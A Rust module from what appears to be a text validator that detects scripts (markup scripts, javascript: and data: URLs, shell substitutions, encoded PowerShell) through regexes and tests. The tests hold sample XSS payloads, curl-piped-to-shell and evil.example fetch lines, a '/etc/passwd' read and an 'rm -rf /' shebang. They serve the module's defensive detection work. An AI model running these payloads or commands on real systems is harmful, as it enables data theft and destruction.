//! Scripts (CL-34): what a browser or a shell would run.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{CharacterClasses, colon_positions, ends_with_ignore_case, starts_with_ignore_case};

/// Media types that a program runs, or renders including their scripts, if they occur in a `data:` URL.
const RUNNABLE: [&str; 28] = [
    "text/html",
    "text/javascript",
    "text/ecmascript",
    "text/jscript",
    "text/vbscript",
    "text/livescript",
    "text/x-ecmascript",
    "text/x-javascript",
    "text/javascript1.0",
    "text/javascript1.1",
    "text/javascript1.2",
    "text/javascript1.3",
    "text/javascript1.4",
    "text/javascript1.5",
    "text/x-python",
    "text/x-shellscript",
    "text/xml",
    "application/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "application/x-ecmascript",
    "application/hta",
    "application/wasm",
    "application/x-sh",
    "application/x-httpd-php",
    "application/xhtml+xml",
    "application/xml",
    "image/svg+xml",
];

/// URL schemes that contain code. They share an ending, so one comparison dismisses most colons.
const SCRIPT_SCHEMES: [&str; 3] = ["javascript", "vbscript", "livescript"];

/// How many bytes after `javascript:` are searched for code: a call or an assignment is recognizable in the first
/// words.
const MAX_CODE_BYTES: usize = 256;

/// Characters that occur in code but not in a word of prose.
const CODE_MARKS: [char; 10] = ['(', '`', '=', ';', '%', '+', '[', '{', '"', '\''];

/// Minimum length of a text that is searched for a program in base64, in bytes: an empty WebAssembly module has
/// twelve, and no useful program is this short.
const MIN_BINARY_BYTES: usize = 32;

/// Ordinary attributes that begin with `on`. Every other `on…` counts as an event handler, because browsers have
/// proprietary ones and new ones appear.
const HONEST_ATTRIBUTES: [&str; 17] = [
    "onboard",
    "onboarded",
    "onboarding",
    "onchain",
    "ondemand",
    "ongoing",
    "onion",
    "online",
    "onprem",
    "onpremise",
    "onpremises",
    "onset",
    "onshore",
    "onsite",
    "ontology",
    "onward",
    "onwards",
];

/// `<script`, elements that load a document, and PHP's opening tag.
static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r#"(?is-u)<(?:[a-z]+:)?script(?:[\s/>]|$)
        |<(?:iframe|frame|embed|object|applet|portal)[\s/][^<>]*\b(?:src|srcdoc|data|code|codebase)\s*=
        |<(?:set|animate)[\s/][^<>]*attributename\s*=\s*["']?on[a-z]
        |<meta[\s/][^<>]*http-equiv\s*=\s*["']?refresh
        |<base[\s/][^<>]*href\s*=
        |<\?(?:php|=)"#,
    )
});

/// Code passed to an interpreter as a string, and calls that do not occur in prose.
static CALL: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r#"(?i-u)\b(?:eval|execscript|settimeout|setinterval|new\s+function)\s*\(\s*
            (?:["'`]|(?:window\.)?atob\b|unescape\b|decodeuri|string\.from|buffer\.from|base64|b64decode|compile\b)
        |\b(?:exec|importscripts|os\.(?:system|popen)|subprocess\.[a-z_]+|child_process\.[a-z]+)\(\s*\[?\s*["'`]
        |\b__import__\s*\(|\brequire\s*\(\s*["'](?:node:)?child_process
        |\(\s*0\s*,\s*eval\s*\)\s*\(|\[\s*["'`]eval["'`]\s*\]\s*\(|\bconstructor\s*\.\s*constructor\s*\(
        |\b(?-i:Function)\s*\(\s*(?:"[^"]*"|'[^']*'|`[^`]*`)(?:\s*,\s*(?:"[^"]*"|'[^']*'|`[^`]*`))*\s*\)\s*\(
        |\bdocument\.(?:write(?:ln)?|createelement)\s*\(|\bgetruntime\(\)\.exec|\balert\(\s*(?:document|["'`0-9])"#,
    )
});

/// Code directly after `javascript:`: code characters in the first word, an assignment, or a keyword followed by code
/// characters. "JavaScript:ES2020 (modules)" is prose.
static CODE: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r#"(?s-u)\A(?:/|[^\s(`=;%\[{"']*(?:[(`=;%\[{"']|\s+=[^=>])|[^\s+]*\+[^\s,.)]
        |(?:alert|await|const|delete|do|eval|fetch|for|function|if|import|let|new|open|throw|try|typeof|var|void|while|with)
            \s[^(`=;%+\[{"']*[(`=;%+\[{"'])"#,
    )
});

/// Code after `javascript:` and white space in a sentence: a call as its first word, or a function in parentheses.
static CALL_FIRST: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r"(?s-u)\A(?:/\*.*\*/\s*)?(?:(?:async|await|const|let|new|throw|var|void)\s+)*
            (?:[!~+({\[;-]*[A-Za-z_$][A-Za-z0-9_$]*(?:\??\.[A-Za-z0-9_$]+)*\(|[!~+(-]*\(\s*(?:\(|async\b|function\s*\())",
    )
});

/// Words and versions, some in parentheses: "ES2020, Go (1.22)", "(see the manual)".
static PROSE: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(r"(?-u)\A(?:\(?[A-Za-z0-9\x80-\xff-]+\+?(?:\.[0-9]+)*\+?\)*[,;.:]?(?:\s+|\z))+\z")
});

/// Browser functions that are harmful by themselves, before a parenthesis.
static HARM: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r"(?i-u)\b(?:alert|confirm|eval|execscript|fetch|function|import|open|print|prompt|setinterval|settimeout|write)\s+\(",
    )
});

/// Commands that match wherever a shell substitutes them.
const COMMANDS: &str = "awk|base64|bash|cat|chmod|chown|cp|curl|cut|date|dd|dig|echo|env|eval|exec|find|grep|head|host|\
    hostname|id|ifconfig|kill|ls|mkfifo|mv|nc|ncat|node|nslookup|openssl|perl|php|ping|printenv|printf|ps|pwd|\
    python[0-9.]*|rm|ruby|scp|sed|sh|sleep|ssh|sudo|tail|tee|touch|tr|uname|wget|whoami|xargs|zsh";

/// Commands that match only with an argument: alone, the name may be a template variable.
const WITH_ARGUMENT: &str = "apk|apt|apt-get|aws|az|bun|bunx|busybox|bzip2|cmd|crontab|csh|deno|docker|doas|dotnet|ftp|\
    gcc|gcloud|git|gpg|gunzip|gzip|jq|ksh|kubectl|ln|lua|mkdir|mktemp|mysql|nerdctl|netstat|nmap|nohup|npm|npx|od|\
    pip[0-9.]*|pipx|pkill|pnpm|podman|powershell|psql|pwsh|redis-cli|rsync|sftp|socat|sqlite3|su|systemctl|tar|telnet|\
    terraform|tftp|timeout|tmux|tsx|unzip|uv|uvx|xxd|xz|yarn|yum|zcat";

/// Commands whose names are also words, as in "make an offer". They match only with an argument that prose does not
/// have.
const WORDS: &str = "ash|brew|cargo|composer|dash|fish|gem|go|helm|java|make|mount|poetry|shell";

/// Folders in the root of a file system, which `$(/call/minute)` does not name.
const ROOTS: &str =
    "bin|dev|etc|home|lib|lib64|media|mnt|opt|proc|root|run|sbin|srv|sys|tmp|usr|var|Applications|Users";

/// Commands inside `$(…)`, `<(…)` and backticks after an assignment, and JNDI lookups inside `${…}`. Unlisted commands
/// match by their path, by an argument that prose does not have, or if their output is assigned.
static SUBSTITUTION: LazyLock<Regex> = LazyLock::new(|| {
    const WORD: &str = "[a-z][a-z0-9._+-]+";
    compile_multiline(&format!(
        r#"(?-u)(?:\$\(|<\(|[A-Za-z0-9_]=`)\s*(?:
            (?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:[\s|;&<>)`]|\$\{{)
            |(?:{WITH_ARGUMENT})(?:\s+[^\s)`]|[|;&<>])
            |(?:{WORDS})(?:\s+(?:[a-z]+\s+)?(?:-|["'`$]|\.{{1,2}}/|~/|/(?:{ROOTS})/)|[|;&<>]|\s[^()]*(?:\||&&)
                |\s+(?:build|exec|get|install|require|run|upgrade)\s+[^\s()]))
        |[$<]\(\s*(?:\.{{1,2}}|~|/(?:{ROOTS}))/[A-Za-z0-9._/-]*[A-Za-z]
        |\$\(\s*{WORD}\s+(?:--[a-z]|\.{{1,2}}/|~/|/(?:{ROOTS})/|["']|\$[A-Za-z{{(]|https?://[^\s()]*\s*[|>])
        |[A-Za-z0-9_]=["']?\$\(\s*{WORD}\s+[^()\s]
        |\$\(\s*<\s*[a-z/.~]
        |\$\{{jndi:"#
    ))
});

/// A whole value in backticks that is a command with an argument that prose does not have, or is piped into a shell. A
/// separate pattern, because its anchor would multiply the states of [`SUBSTITUTION`].
static QUOTED: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(&format!(
        r"(?s-u)\A\s*(?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:\s.*)?(?:&&|\s-{{1,2}}[A-Za-z]|\s\S*://|\s[.~]{{0,2}}/)
        |\|\s*(?:sudo\s+)?(?:/[a-z/]+/)?(?:ba|da|k|z)?sh(?:\s|\z)"
    ))
});

/// The first line of a script, anywhere in the text.
static SHEBANG: LazyLock<Regex> =
    LazyLock::new(|| compile_multiline(r"(?m-u)^\s*\#!\s*/\S*(?:bin/|env\b|sh\b|python|perl|ruby|node|php)"));

/// The first bytes of programs in base64: WebAssembly, ELF and Windows.
static BINARY: LazyLock<Regex> =
    LazyLock::new(|| compile_multiline(r"(?-u)AGFzbQEAAA|f0VMRg(?:EBAQ|IBAQ|EBAA|IBAA)|TVqQAAMAAAAEAAAA"));

/// A base64 program on a PowerShell command line. PowerShell accepts any prefix of `-EncodedCommand`; the shortest
/// ones may be another program's option in prose and therefore need a longer program.
static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r#"(?i-u)\b(?:powershell|pwsh)(?:\.exe)?["']?\s[^\n]*?[-/]
            (?:ec?\s+["']?[a-z0-9+/=]{16,}|en(?:c(?:o(?:d(?:e(?:d[a-z]*)?)?)?)?)?\s+["']?[a-z0-9+/=]{8,})"#,
    )
});

/// A function expression or arrow function with its body. `=> {` also maps words to sets, so after a bare name the
/// body must look like code.
static FUNCTION: LazyLock<Regex> = LazyLock::new(|| {
    compile_multiline(
        r"(?s-u)\bfunction\b\s*\*?\s*[A-Za-z0-9_$]*\s*\([^()]*\)\s*\{
        |\)\s*=>\s*\{
        |[A-Za-z0-9_$]\s*=>\s*\{[^{}]*(?:;|\breturn\b|[A-Za-z0-9_$]\()",
    )
});

/// Compiles a pattern that spans several lines.
fn compile_multiline(pattern: &str) -> Regex {
    let pattern = format!("(?x){pattern}");
    Regex::new(&pattern).expect("a test compiles every pattern of this module")
}

/// The kind of the first script in `text`.
pub(super) fn find_script(text: &str, marks: CharacterClasses) -> Option<&'static str> {
    let holds = |pattern: &Regex| pattern.is_match(text.as_bytes());
    let url = || marks.has_any(CharacterClasses::COLON) && is_script_url(text, marks);
    match () {
        () if marks.has_any(CharacterClasses::ANGLE) && (holds(&MARKUP) || has_event_handler_attribute(text)) => {
            Some("a script in markup")
        }
        () if url() => Some("a script URL"),
        () if marks.has_any(CharacterClasses::HASH_BANG) && holds(&SHEBANG) => Some("a shebang line"),
        () if may_be_command_substitution(marks) && holds(&SUBSTITUTION) => Some("a command substitution"),
        () if marks.has_any(CharacterClasses::SHELL) && is_command_substitution(text) => Some("a command substitution"),
        () if may_name_powershell(text, marks) && holds(&ENCODED) => Some("a program in base64"),
        () if has_function_mark(text, marks) && holds(&FUNCTION) => Some("a function with its body"),
        () if marks.has_any(CharacterClasses::PAREN) && holds(&CALL) => Some("code for an interpreter"),
        () if may_be_base64_program(text, marks) && holds(&BINARY) => Some("a program in base64"),
        () => None,
    }
}

/// Whether an element has an event handler attribute. An element ends at an angle bracket or an unclosed quote.
fn has_event_handler_attribute(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(open) = find_byte(bytes, at, b'<') {
        at = open + 1;
        if !bytes.get(at).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        // Quoted values, white space and slashes separate attribute names.
        let mut is_apart = false;
        while let Some(byte) = bytes.get(at).filter(|byte| !matches!(byte, b'<' | b'>')) {
            let word = &bytes[at..at + bytes[at..].iter().take_while(|byte| byte.is_ascii_alphabetic()).count()];
            if is_apart && is_event_handler_attribute(word, &bytes[at + word.len()..]) {
                return true;
            }
            let closing = if matches!(byte, b'"' | b'\'') { find_byte(bytes, at + 1, *byte) } else { Some(at) };
            let Some(closing) = closing else { break };
            is_apart = closing > at || is_ascii_white_space(*byte) || *byte == b'/';
            at = closing + word.len().max(1);
        }
    }
    false
}

/// Whether a word is an event handler's name, followed by a value.
fn is_event_handler_attribute(word: &[u8], behind: &[u8]) -> bool {
    let is_named_so = word.len() >= "on".len() + 3 && word[..2].eq_ignore_ascii_case(b"on");
    is_named_so
        && behind.iter().find(|byte| !is_ascii_white_space(**byte)) == Some(&b'=')
        && !HONEST_ATTRIBUTES.iter().any(|known| word.eq_ignore_ascii_case(known.as_bytes()))
}

const fn is_ascii_white_space(byte: u8) -> bool {
    byte.is_ascii_whitespace() || byte == b'\x0b'
}

fn find_byte(bytes: &[u8], from: usize, wanted: u8) -> Option<usize> {
    bytes.get(from..)?.iter().position(|byte| *byte == wanted).map(|at| from + at)
}

/// Whether the text is exactly a command with arguments inside `$(…)`, or a command in backticks. In prose, `$(`
/// introduces a price and backticks are Markdown.
fn is_command_substitution(text: &str) -> bool {
    let inside = |begin: &str, end: &str| text.trim().strip_prefix(begin)?.strip_suffix(end);
    if let Some(quoted) = inside("`", "`") {
        return !quoted.contains('`') && QUOTED.is_match(quoted.as_bytes());
    }
    let Some((command, arguments)) = inside("$(", ")").and_then(|line| line.trim().split_once(' ')) else {
        return false;
    };
    let fits = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._+-".contains(&b);
    command.len() > 1
        && command.starts_with(|c: char| c.is_ascii_lowercase())
        && command.bytes().all(fits)
        && !arguments.contains(['(', ')'])
}

/// A cheap test before [`SUBSTITUTION`].
const fn may_be_command_substitution(marks: CharacterClasses) -> bool {
    marks.has_any(CharacterClasses::SHELL | CharacterClasses::ANGLE)
        && marks.has_any(CharacterClasses::PAREN | CharacterClasses::EQUALS | CharacterClasses::COLON)
}

/// A cheap test before [`ENCODED`].
fn may_name_powershell(text: &str, marks: CharacterClasses) -> bool {
    let names = |part: &[u8]| part.eq_ignore_ascii_case(b"hell") || part.eq_ignore_ascii_case(b"pwsh");
    let has_option = marks.has_any(CharacterClasses::SPACE | CharacterClasses::BREAK)
        && marks.has_any(CharacterClasses::DASH | CharacterClasses::SLASH);
    has_option && text.as_bytes().windows(4).any(names)
}

/// A cheap test before [`BINARY`].
fn may_be_base64_program(text: &str, marks: CharacterClasses) -> bool {
    text.len() >= MIN_BINARY_BYTES && marks.has_any(CharacterClasses::UPPER) && !marks.has_any(CharacterClasses::SPACE)
}

/// A cheap test before [`FUNCTION`].
fn has_function_mark(text: &str, marks: CharacterClasses) -> bool {
    marks.has_any(CharacterClasses::EQUALS) && text.contains("=>")
        || marks.has_any(CharacterClasses::PAREN) && text.contains("function")
}

/// Browsers drop tabs and line ends from a URL, and white space and control characters before it.
fn is_script_url(text: &str, marks: CharacterClasses) -> bool {
    if !marks.has_any(CharacterClasses::BREAK) {
        return has_script_url(text) || has_data_url(text, false);
    }
    let whole = text.replace(['\t', '\n', '\r'], "");
    has_script_url(&whole) || has_data_url(text, false) || has_data_url(&whole, true)
}

/// `javascript:` or `vbscript:` where a URL may begin, followed by code; "JavaScript: a language" is prose.
fn has_script_url(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    colon_positions(text).any(|at| {
        if !ends_with_ignore_case(&text[..at], "script") {
            return false;
        }
        let mut schemes = SCRIPT_SCHEMES.iter().filter(|scheme| ends_with_ignore_case(&text[..at], scheme));
        schemes.any(|scheme| {
            let code = &text[at + 1..text.floor_char_boundary(at + 1 + MAX_CODE_BYTES)];
            let plain = code.trim_start();
            let is_apart = plain.len() < code.len();
            let marked = || if is_apart { plain.contains(['(', '=']) } else { plain.contains(CODE_MARKS) };
            match text[..at - scheme.len()].chars().next_back() {
                None => plain.starts_with('/') || marked() && !is_followed_by_prose(plain),
                // In an attribute or a Markdown link only a URL is expected.
                Some(before) if "\"'`(=<>".contains(before) => {
                    !plain.is_empty() && (!is_apart || marked() && !is_followed_by_prose(plain))
                }
                Some(before) if !before.is_whitespace() => false,
                Some(_) if is_apart => CALL_FIRST.is_match(plain.as_bytes()),
                Some(_) => CODE.is_match(plain.as_bytes()),
            }
        })
    })
}

/// Whether prose, not code, follows the scheme.
fn is_followed_by_prose(text: &str) -> bool {
    PROSE.is_match(text.as_bytes()) && !HARM.is_match(text.as_bytes())
}

/// `data:` with a type that runs and with content, or without a type and with markup in base64. White space around the
/// type indicates prose; `is_prose` states that the text contained some before it was removed.
fn has_data_url(text: &str, is_prose: bool) -> bool {
    colon_positions(text).any(|at| {
        if !ends_with_ignore_case(&text[..at], "data") {
            return false;
        }
        let url = text[at + 1..].trim_start();
        let is_prose = is_prose || url.len() < text.len() - at - 1;
        RUNNABLE.iter().any(|kind| has_executable_content(url, kind, is_prose)) || is_untyped_base64_markup(url)
    })
}

/// Whether content of this type follows. In prose, further types may follow instead.
fn has_executable_content(url: &str, kind: &str, is_prose: bool) -> bool {
    if !starts_with_ignore_case(url, kind) {
        return false;
    }
    let Some(content) = url[kind.len()..].trim_start().strip_prefix([',', ';']) else { return false };
    let trimmed = content.trim_start();
    let is_prose = is_prose || trimmed.len() < content.len();
    let is_content = || {
        trimmed.starts_with('<')
            || starts_with_ignore_case(trimmed, "charset=")
            || starts_with_ignore_case(trimmed, "base64,")
    };
    !trimmed.is_empty() && (!is_prose || is_content())
}

/// Whether a URL without a type contains the base64 of a text that begins with `<`.
fn is_untyped_base64_markup(url: &str) -> bool {
    let head = &url[..url.floor_char_boundary(MAX_CODE_BYTES)];
    let Some((parameters, content)) = head.split_once(";base64,") else { return false };
    let is_bare = parameters.is_empty() || parameters.starts_with(';');
    is_bare && matches!(content.as_bytes(), [b'P', b'A'..=b'P', ..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn functions_with_their_body_are_scripts() {
        for script in [
            "function (x) { return x }",
            "const f = async function* walk(a, b) {\n yield a; }",
            "(input) => { send(input) }",
            "async () => {}",
            "x => { return x + 1 }",
            "items.map(item => { total += item; })",
        ] {
            assert_eq!(text(script), Some("a function with its body"), "{script}");
        }
        for honest in [
            "A pure function (of its input).",
            "The function {name} is called once.",
            "transfer(address to) => bool",
            "maps (a, b) => a + b",
            "status => {ok, failed}",
            "status => { \"ok\": 200 }",
            "a >= b, c => d",
            "functional (2.0) {beta}",
        ] {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    #[test]
    fn encoded_commands_of_powershell_are_scripts() {
        for script in [
            "powershell -enc ZQBjAGgAbwA=",
            "PoWeRsHeLl.exe -NoP -EncodedCommand 'ZQBjAGgAbwAgADEA'",
            "pwsh -en ZQBjAGgAbwA=",
            "powershell /enc ZQBjAGgAbwA=",
            "powershell -w hidden -e ZQBjAGgAbwAgADEAMgA=",
        ] {
            assert_eq!(text(script), Some("a program in base64"), "{script}");
        }
        for honest in
            ["powershell -enc takes base64", "PowerShell 7 - ends here", "a shell -e something", "pwsh -e thing"]
        {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    fn text(text: &str) -> Option<&'static str> {
        find_script(text, CharacterClasses::from_text(text))
    }

    #[test]
    fn scripts_are_found() {
        for script in [
            "<script>alert(1)</script>",
            "x <SCRIPT src=//evil.example>",
            "<script/x>",
            "<script",
            "javascript:alert(1)",
            " JavaScript: alert(1)",
            "java\nscript:alert(1)",
            "<a href=\"javascript:x\">",
            "vbscript:msgbox()",
            "data:text/html,<b>",
            "see data:text/html;base64,PHNjcmlwdD4=",
            "DATA:application/javascript;base64,eA==",
            "data:image/svg+xml;utf8,<svg>",
            "#!/bin/sh\nrm -rf /",
            "#! /usr/bin/env python",
            "<img src=\"a>b\" alt=x onerror=f()>",
            "<img src='x'onerror=f()>",
            "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3",
            "name: $(./payload.sh)",
            "$(~/x)",
            "diff <(../one) x",
            "runs $(docker run evil)",
            "$(npx evil)",
            "$(pip3 install x)",
            "$(git clone x)",
            "$(busybox sh)",
            "k=`git status`",
            "name $(frobnicate --all) end",
            "name $(frobnicate https://evil.example | sh) end",
            "name $(make -C evil) end",
            "name $(go run ./x.go) end",
            "$(frobnicate run evil)",
            "x=\"$(frobnicate run evil)\"",
            "`curl https://a.example|sh`",
            " `cat /etc/passwd` ",
            "`npx evil | sh`",
            "javascript: alert(1)",
            "javascript:confirm (document.cookie)",
            "javascript:document .location='//evil.example'",
            "javascript:1 && fetch('//evil.example')",
            "javascript:\u{a0}alert(x)",
            "see javascript:\u{a0}alert(x)",
            "javascript: /**/alert(x)",
            "see javascript: /**/alert(x)",
            "javascript: location='//evil.example'",
            "javascript:eval (name)",
            "<a href=\"javascript: 0,alert(x)\">",
            "javascript:alert (1)",
            "javascript:0,alert(1)",
            "javascript:+alert",
            "javascript:location = 'x'",
            "javascript:var x = alert(1)",
            "javascript: void window.open(1)",
            "javascript: (function(){})()",
            "[x](javascript: a.b(1))",
            "data: text/html;base64,PHNjcmlwdD4=",
            "data:text/html ;base64,PHNjcmlwdD4=",
            "data:text/\nhtml;base64,PHNjcmlwdD4=",
            "data:\ttext/html,<b>",
            "first\ndata:text/html,second",
            "data: ;base64,PHNjcmlwdD4=",
            "<body ononline=f()>",
            "<div ongesturestart=f()>",
            "<div onmozfullscreenchange=f()>",
            "<a online=yes onhelp=f() onchain>",
            "<a title=\"x\"onhelp=f()>",
            "<svg/onload=f()>",
            "<animate onbegin = f()>",
            "<div oncontentvisibilityautostatechange=f()>",
        ] {
            assert!(text(script).is_some(), "{script}");
        }
    }

    #[test]
    fn honest_texts_pass() {
        for honest in [
            "summarizes scripts and <descriptions>",
            "Languages: JavaScript: ES2020, TypeScript",
            "JavaScript: the good parts",
            "javascript:",
            "javascript:es2020",
            "data:image/png;base64,iVBORw0KGgo=",
            "input data: text/html, text/plain",
            "application/javascript",
            "#!important",
            "# heading!",
            "#!/inbox",
            "PowerShell - Every command has 16characters1234",
            "powershell -File install.ps1",
            "$(USD)",
            "$(x)",
            "$(git)",
            "$(Build.SourceBranch)",
            "costs $(about 5) per call",
            "$(usd /call), $(see below)",
            "the order is $(n log n)$",
            "$(n log n)",
            "$(see the (long) list)",
            "$(document).ready",
            "`npm install x`",
            "`date`",
            "`date` and `host`",
            "`curl` | sh | `bash`",
            "run `curl https://a.example/install.sh|sh` to begin",
            "path=`/v1/agents`",
            "0.01 $(/call), $(/call/minute)",
            "$(make an offer), $(go to pricing), $(see https://commandlayer.org/pricing)",
            "`date|number`",
            "`id -> name`",
            "`host|ip`",
            "`id; name`",
            "`date > 2025-01-01`",
            "`ssh://git@a.example/x`",
            "Languages: JavaScript: ES2020 (modules), TypeScript",
            "JavaScript:ES2020, Go (1.22)",
            "JavaScript:ES2020+, TypeScript",
            "JavaScript: (see the manual)",
            "JavaScript: new features (ES2020)",
            "JavaScript: functions (arrow, async)",
            "input data: text/html,text/plain",
            "takes data:\ntext/html,\ntext/plain",
            "<proof onchain=\"true\"/>",
            "<a title=\"say onclick=1\" onward=\"x\">",
            "<agent online=\"yes\"/>",
            "<entry once=\"1\" onboarding=\"done\">",
        ] {
            assert_eq!(text(honest), None, "{honest}");
        }
    }

    #[test]
    fn every_pattern_compiles() {
        for pattern in
            [&MARKUP, &CALL, &CODE, &CALL_FIRST, &PROSE, &HARM, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED]
        {
            assert!(!pattern.is_match(b""), "{}", pattern.as_str());
        }
    }
}
